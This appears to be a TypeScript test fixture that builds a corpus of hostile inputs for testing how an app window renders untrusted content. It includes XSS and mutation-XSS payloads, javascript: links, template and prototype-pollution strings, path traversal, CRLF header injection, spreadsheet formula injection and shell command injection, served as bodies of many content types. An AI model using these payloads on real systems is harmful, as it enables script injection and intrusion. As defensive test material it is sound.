/** L07: texts that try to become more than text, for every place of the window that shows what others sent. */

export interface Payload {
  readonly name: string;
  readonly text: string;
}

/** Runs in whatever document it gets into. */
const RUN = 'window.foreignScript=1';

/** @param evil URL of a server that nobody may reach */
export function xssCorpus(evil: string): readonly Payload[] {
  return [...MARKUP(evil), ...MUTATIONS(evil), ...LINKS(evil), ...TEXTS].map(([name, text]) => ({
    name,
    text,
  }));
}

type Pairs = readonly (readonly [name: string, text: string])[];

const MARKUP = (evil: string): Pairs => [
  ['script', `<script>${RUN}</script>`],
  ['remote script', `<script src="${evil}/a.js"></script>`],
  ['module script', `<script type=module>import "${evil}/m.js"</script>`],
  ['image with a handler', `<img src=x onerror="${RUN}">`],
  ['remote image', `<img src="${evil}/i.png" srcset="${evil}/s.png 2x">`],
  ['SVG with a handler', `<svg onload="${RUN}"></svg>`],
  ['SVG with a script', `<svg><script href="${evil}/s.js">${RUN}</script></svg>`],
  [
    'SVG with foreignObject',
    `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  ],
  ['SVG with an animation', `<svg><animate attributeName=x dur=1s onbegin="${RUN}"/></svg>`],
  ['SVG with an image', `<svg><image href="${evil}/v.png"/><use href="${evil}/u.svg#a"/></svg>`],
  ['body with a handler', `<body onload="${RUN}" background="${evil}/bg.png">`],
  ['details that open', `<details open ontoggle="${RUN}"><summary>x</summary></details>`],
  ['input with the focus', `<input autofocus onfocus="${RUN}">`],
  ['video', `<video autoplay src="${evil}/v.mp4" poster="${evil}/p.png" onerror="${RUN}"></video>`],
  ['frame with a document', `<iframe srcdoc="<script>top.${RUN}</script>"></iframe>`],
  ['frame with a script', `<iframe src="javascript:top.${RUN}"></iframe>`],
  ['object and embed', `<object data="${evil}/o"></object><embed src="${evil}/e">`],
  ['base', `<base href="${evil}/">`],
  ['meta refresh', `<meta http-equiv="refresh" content="0;url=${evil}/r">`],
  ['style sheet', `<link rel=stylesheet href="${evil}/s.css">`],
  ['preload', `<link rel=preload as=image href="${evil}/p"><link rel=preconnect href="${evil}">`],
  ['style with an import', `<style>@import "${evil}/i.css"; *{background:url(${evil}/c.png)}</style>`],
  ['style attribute', `<p style="background:url(${evil}/a.png);width:expression(${RUN})">x</p>`],
  ['form', `<form action="${evil}/f"><button formaction="javascript:${RUN}">x</button></form>`],
];

const MUTATIONS = (evil: string): Pairs => [
  ['mutation by noscript', `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`],
  [
    'mutation by math',
    `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></table></math>`,
  ],
  ['mutation by a comment', `<!--><img src=x onerror=${RUN}>--><![CDATA[<img src=x onerror=${RUN}>]]>`],
  ['end of a script', `</script><script>${RUN}</script>`],
  ['end of a text', `</textarea></title></style></xmp><img src=x onerror=${RUN}>`],
  ['end of an attribute', `" onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`],
  ['end of a quoted attribute', `' onmouseover='${RUN}' x='`],
  ['end of a string', `";${RUN};//';${RUN};//\`;${RUN};//`],
  ['template of a framework', `{{constructor.constructor('${RUN}')()}}`],
  ['template string', `\${${RUN}}#{${RUN}}<%= ${RUN} %>`],
  ['template element', `<template><img src=x onerror=${RUN}></template><slot onslotchange=${RUN}>`],
  ['an element of React', `{"$$typeof":"Symbol(react.element)","type":"iframe","props":{"src":"${evil}"}}`],
];

const LINKS = (evil: string): Pairs => [
  ['javascript: link', `<a href="javascript:${RUN}">x</a>`],
  ['javascript: in disguise', `<a href="java&#x0A;script:&#119;indow.foreignScript=1">x</a>`],
  ['javascript: alone', `javascript:${RUN}//https://example.com/`],
  ['data: document', `data:text/html,<script>${RUN}</script>`],
  ['markdown', `[x](javascript:${RUN}) ![x](${evil}/m.png)`],
  ['relative to the protocol', `//${evil.replace('http://', '')}/x`],
];

const TEXTS: Pairs = [
  ['wide characters', `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`],
  ['overlong bytes', `%c0%bcscript%c0%be${RUN}%c0%bc/script%c0%be`],
  ['UTF-7', `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`],
  ['entities', `&lt;script&gt;${RUN}&lt;/script&gt;&#60;img src=x onerror=${RUN}&#62;`],
  ['reading direction', `\u202egnp.exe\u202c\u2066x\u2069\u200f`],
  ['invisible characters', `a\u200bb\ufeffc\u00add\u2028e`],
  ['encoded line ends', `%0d%0aSet-Cookie:%20a=b%0d%0a%0d%0a<script>${RUN}</script>`],
  ['prototype', `__proto__[foreign]=1&constructor[prototype][foreign]=1`],
  ['names of an object', `__proto__ constructor toString hasOwnProperty`],
  ['path as a name', `..%2f..%2f..\\..\\etc/passwd%00.html`],
  ['name in quotes', `attachment; filename="a";b=".html`],
  ['formula', `=HYPERLINK("${RUN}","x")+cmd|' /C calc'!A0`],
  ['shell', `$(touch foreign)\`touch foreign\`;touch foreign|touch foreign&touch foreign`],
  ['shell within quotes', `'; touch foreign; '" touch foreign "\\'`],
  ['terminal', `%1b]0;title%07%1b[2J%1b[31mred`],
];

/** The text as a field value can carry it: other characters by their UTF-8 bytes, as a client would write them. */
export function asFieldValue(text: string): string {
  return Buffer.from(text.replace(/\p{Cc}/gu, ' '), 'utf8').toString('latin1');
}

/** The text within a request target, with as little of it encoded as can be. */
export function asTarget(text: string): string {
  return text.replace(/[^\u0021-\u007e]|#/gu, (character) => encodeURIComponent(character));
}

export interface Body {
  readonly path: string;
  readonly type: string;
  readonly text: string;
}

/** Bodies of every kind that the window has a view or a language for; each carries the whole corpus. */
export function hostileBodies(corpus: readonly Payload[]): readonly Body[] {
  const all = corpus.map(({ text }) => text).join('\n');
  const members = corpus.map(({ text }) => `${JSON.stringify(text)}: ${JSON.stringify(text)}`);
  const proto = `"__proto__": {"foreign": 1}, "constructor": {"prototype": {"foreign": 1}}`;
  return [
    { path: '/page.html', type: 'text/html', text: `<!doctype html><title>x</title>${all}` },
    {
      path: '/vector.svg',
      type: 'image/svg+xml',
      text: `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${RUN}"><script>${RUN}</script>${svgOnly(corpus)}</svg>`,
    },
    { path: '/data.json', type: 'application/json', text: `{${proto}, ${members.join(', ')}}` },
    { path: '/problem.json', type: 'application/problem+json', text: JSON.stringify([all, { [all]: all }]) },
    { path: '/notes.txt', type: 'text/plain', text: all },
    { path: '/style.css', type: 'text/css', text: all },
    { path: '/code.js', type: 'text/javascript', text: `${RUN};\n${all}` },
    { path: '/picture.png', type: 'image/png', text: all },
    { path: '/bytes', type: 'application/octet-stream', text: `\u0000${all}` },
  ];
}

/** What an XML parser takes, so that the picture is really drawn. */
const svgOnly = (corpus: readonly Payload[]) =>
  corpus
    .filter(({ name }) => /^SVG with (?:foreignObject|an animation|an image)/.test(name))
    .map(({ text }) => text.replace(/dur=1s/, 'dur="1s"').replace(/attributeName=x/, 'attributeName="x"'))
    .map((text) => text.replace(/srcdoc="[^"]*"/, 'src="data:text/html,x"'))
    .join('');
